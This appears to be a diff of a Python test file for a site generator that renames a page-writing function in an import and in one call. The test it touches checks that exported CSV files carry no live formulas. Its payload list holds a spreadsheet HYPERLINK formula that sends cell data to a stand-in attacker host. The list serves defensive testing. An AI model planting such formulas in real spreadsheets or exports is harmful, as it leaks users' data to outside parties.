@@ -11,9 +11,10 @@ from pathlib import Path
 import pytest
 from fixturelib import MINIMAL, zwpj
 
+from generator.build.pages import write_pages
 from generator.load.spreadsheets import FORMULA_LEADS, csv_cells, safe_text
 from generator.pipeline import check, score_all
-from generator.render.site import SiteItem, write_docs
+from generator.render.site import SiteItem
 
 PAYLOADS = [
     '=HYPERLINK("http://attacker.example/?leak="&A1,"点此")',
@@ -77,7 +78,7 @@ def test_the_open_data_csv_files_hold_no_live_formula(hostile_repo: Path, tmp_pa
     repo = checked.repo
     items = [SiteItem(e, repo.system_for(e.evaluation), cards[e.evaluation.id]) for e in repo.evaluations]
     docs = tmp_path / "docs"
-    write_docs(hostile_repo, items, list(repo.systems.values()), docs, reports=False)
+    write_pages(hostile_repo, items, list(repo.systems.values()), docs, reports=False)
     written = sorted(docs.rglob("*.csv"))
     assert {p.name for p in written} >= {"evaluations.csv", "all-scores.csv", "2024-mini.csv"}
     for path in written:
